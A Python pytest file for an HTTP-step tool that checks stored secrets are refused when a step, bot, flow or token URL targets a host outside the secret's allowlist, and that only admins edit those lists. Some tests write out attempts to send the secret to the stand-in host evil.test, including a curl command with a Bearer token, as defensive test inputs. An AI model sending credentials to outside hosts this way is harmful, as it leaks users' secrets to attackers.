"""An editor who points a step with a stored secret at another host: refused before it leaves, whoever runs the step."""

from __future__ import annotations

from collections.abc import Callable
from html import unescape

import pytest
from werkzeug.test import TestResponse

from httpstep.storage import catalogue
from tests.fakes import ThirdParty, answer
from tests.house import House, document
from tests.web.conftest import Browser, Web
from tests.web.screen import Screen, new_step, open_step, put_secret, web_with

SQLITE_ONLY = "where a secret may go is decided above the database"

VALUE = "sesame-open-7431"
HERE = ("https://api.example",)
STEP = document(headers=[{"name": "X-Token", "value": "{{secret.CRM}}"}])
REFUSED = "The secret “CRM” may not be sent to https://evil.test; an admin can allow it under Secrets."


@pytest.fixture
def third() -> ThirdParty:
    return ThirdParty(answer(200, {"a": 1}))


@pytest.fixture
def web(make_house: Callable[..., House], third: ThirdParty) -> Web:
    web = web_with(make_house, third)
    put_secret(web, "CRM", VALUE, HERE)
    web.house.put(STEP)
    return web


def listed(web: Web) -> dict[str, object]:
    with web.house.app.app_context():
        return {one.name: one.hosts for one in catalogue.secrets(web.house.account())}


def pointed_at(browser: Browser, url: str) -> Screen:
    return open_step(browser).fill(url=url).set("value:order.id", "42")


def asked(screen: Screen, what: str) -> TestResponse:
    """Test has an address of its own, a move the one of all moves."""
    return screen.fragment("test") if what == "test" else screen.move(what)


@pytest.mark.parametrize("who", ["bob", "alice"])
def test_test_and_preview_refuse_it_and_call_nobody(web: Web, third: ThirdParty, who: str) -> None:
    screen = pointed_at(web.as_(who), "https://evil.test/{{order.id}}")
    for move in ("test", "preview"):
        html = unescape(asked(screen, move).text)
        assert REFUSED in html and VALUE not in html
        assert REFUSED in pointed_at(web.as_(who), "https://evil.test/{{order.id}}").press(move).text
    assert third.requests == []
    assert "200" in screen.fill(url="https://api.example/{{order.id}}").press("test").text and len(third.requests) == 1


def test_a_bot_and_a_flow_refuse_it_and_the_fallback_decides(web: Web, third: ThirdParty) -> None:
    web.house.put(document(url="https://evil.test/", headers=STEP["request"]["headers"], fallback="continue"))
    web.house.flow("order-status")
    got = web.house.execute()
    assert got.status_code == 200
    assert (got.json["outcome"], got.json["next"], got.json["message"]) == ("invalid_request", "continue", REFUSED)
    assert web.house.run_flow().json["steps"][0]["message"] == REFUSED
    assert third.requests == [] and len(web.house.logs()) == 2


def test_a_host_that_the_bot_gives_is_judged_by_its_value(web: Web, third: ThirdParty) -> None:
    web.house.put(document(url="https://{{host}}/", headers=STEP["request"]["headers"]))
    assert web.house.execute(attributes={"host": "evil.test"}).json["message"] == REFUSED
    assert web.house.execute(attributes={"host": "api.example"}).json["outcome"] == "success"
    assert [request.url for request in third.requests] == ["https://api.example/"]


def test_the_preview_judges_a_host_that_another_secret_gives(web: Web, third: ThirdParty) -> None:
    put_secret(web, "BASE", "https://tenant-99.example/v2")
    screen = pointed_at(web.as_("bob"), "{{secret.BASE}}/{{order.id}}")
    for move in ("test", "preview"):
        html = unescape(asked(screen, move).text)
        assert "The secret “CRM” may not be sent to the host that the secret “BASE” gives;" in html
        assert "tenant-99" not in html
    put_secret(web, "BASE", "https://api.example/v2")
    assert "GET ••••/42" in screen.press("preview").text
    assert third.requests == []


def test_the_token_address_is_judged_in_test_preview_and_bot(web: Web, third: ThirdParty) -> None:
    auth = {"type": "oauth2_client_credentials", "token_url": "https://evil.test/token", "client_id": "me"}
    step = document(auth=auth | {"client_secret": "{{secret.CRM}}"})
    web.house.put(step)
    screen = open_step(web.as_("bob")).set("value:order.id", "42")
    for move in ("test", "preview"):
        assert REFUSED in unescape(asked(screen, move).text)
    assert web.house.execute().json["message"] == REFUSED
    assert third.requests == []


def test_the_token_of_a_secret_goes_to_no_other_host(make_house: Callable[..., House]) -> None:
    third = ThirdParty(answer(200, {"access_token": "tok-123456", "expires_in": 3600}), answer(200, {"a": 1}))
    web = web_with(make_house, third)
    put_secret(web, "CRM", VALUE, ("https://id.example", "https://api.example"))
    auth = {"type": "oauth2_client_credentials", "token_url": "https://id.example/token", "client_id": "me"}
    web.house.put(document(auth=auth | {"client_secret": "{{secret.CRM}}"}))
    assert web.house.execute().json["outcome"] == "success"
    screen = pointed_at(web.as_("bob"), "https://evil.test/")
    assert "The access token that the secret “CRM” brings may not be sent to https://evil.test;" in unescape(
        screen.fragment("test").text
    )
    assert [request.url.split("/")[2] for request in third.requests] == ["id.example", "api.example"]


# ---------------------------------------------------------------- who makes the list


def test_an_admin_says_where_with_the_value_and_changes_it_only_with_the_value(web: Web) -> None:
    alice = web.as_("alice")
    form = {"name": "SHOP", "secret_value": VALUE}
    assert "May be sent to" in alice.get("/secrets").text
    without = alice.post("/secrets", form)
    assert without.status_code == 422 and "Say where this secret may be sent." in without.text
    assert "SHOP" not in listed(web) and VALUE not in without.text
    stored = alice.post(
        "/secrets", form | {"hosts": "shop.example\nhttps://shop.example:8443/x"}, follow_redirects=True
    )
    assert "https://shop.example:8443" in stored.text
    assert listed(web)["SHOP"] == ("https://shop.example", "https://shop.example:8443")
    page = alice.get("/secrets/SHOP/replace").text
    assert "May be sent to" in page and "https://shop.example\nhttps://shop.example:8443" in page
    for value, hosts in (("", "https://evil.test"), (VALUE, ""), (VALUE, "https://*.example")):
        again = alice.post("/secrets/SHOP/replace", {"secret_value": value, "hosts": hosts})
        assert again.status_code == 422 and VALUE not in again.text
    assert listed(web)["SHOP"] == ("https://shop.example", "https://shop.example:8443")
    assert alice.post("/secrets/SHOP/replace", {"secret_value": VALUE, "hosts": "b.example"}).status_code == 303
    assert listed(web)["SHOP"] == ("https://b.example",)


@pytest.mark.parametrize("who", ["bob", "vera"])
def test_nobody_else_changes_a_list_and_all_see_it(web: Web, who: str) -> None:
    browser, before = web.as_(who), listed(web)
    assert "https://api.example" in browser.get("/secrets").text
    for path in ("/secrets", "/secrets/CRM/replace"):
        form = {"name": "CRM", "secret_value": "x", "hosts": "https://evil.test"}
        assert browser.post(path, form).status_code == 403
    if who == "bob":
        screen = pointed_at(browser, "https://evil.test/")
        for move in ("preview", "test", "save"):
            screen.press(move)
        new_step(browser, url="").fill(curl=f"curl https://evil.test -H 'Authorization: Bearer {VALUE}'").set(
            "keep_secrets", "1"
        ).press("curl")
    assert listed(web) == before


def test_a_secret_from_before_there_were_lists_goes_anywhere_and_is_marked(web: Web, third: ThirdParty) -> None:
    put_secret(web, "CRM", VALUE, None)
    assert "any host (from before)" in web.as_("vera").get("/secrets").text
    assert pointed_at(web.as_("bob"), "https://else.example/").fragment("test").status_code == 200
    assert [request.url for request in third.requests] == ["https://else.example/"]
    alice = web.as_("alice")
    assert 'name="hosts"' in alice.get("/secrets/CRM/replace").text
    alice.post("/secrets/CRM/replace", {"secret_value": VALUE, "hosts": "https://api.example"})
    assert "any host (from before)" not in alice.get("/secrets").text


# ---------------------------------------------------------------- a pasted command


def test_a_secret_of_a_pasted_command_may_be_sent_to_that_commands_host(web: Web) -> None:
    command = "curl https://shop.example:8443/x -H 'Authorization: Bearer abcdef123456'"
    screen = new_step(web.as_("alice"), url="").fill(curl=command).set("keep_secrets", "1").press("curl").press("save")
    assert "SHOP_TOKEN. It may be sent to https://shop.example:8443." in screen.text
    assert listed(web)["SHOP_TOKEN"] == ("https://shop.example:8443",)


def test_a_pasted_command_makes_no_list_longer(web: Web) -> None:
    command = f"curl https://other.example/x -H 'Authorization: Bearer {VALUE}'"
    screen = new_step(web.as_("alice"), url="").fill(curl=command).set("keep_secrets", "1").press("curl").press("save")
    assert "May not be sent to https://other.example yet: CRM. Add the host under Secrets." in screen.text
    assert listed(web) == {"CRM": HERE}


def test_where_the_host_of_a_command_varies_nothing_is_kept(web: Web) -> None:
    command = "curl 'https://{{host}}/x' -H 'Authorization: Bearer abcdef123456'"
    screen = new_step(web.as_("alice"), url="").fill(curl=command).set("keep_secrets", "1").press("curl")
    assert "Keep it under Secrets" in screen.text and listed(web) == {"CRM": HERE}


def test_an_editors_pasted_credential_is_kept_as_no_secret(web: Web) -> None:
    command = "curl https://shop.example/x -H 'Authorization: Bearer abcdef123456'"
    new_step(web.as_("bob"), url="").fill(curl=command).set("keep_secrets", "1").press("curl")
    assert listed(web) == {"CRM": HERE}
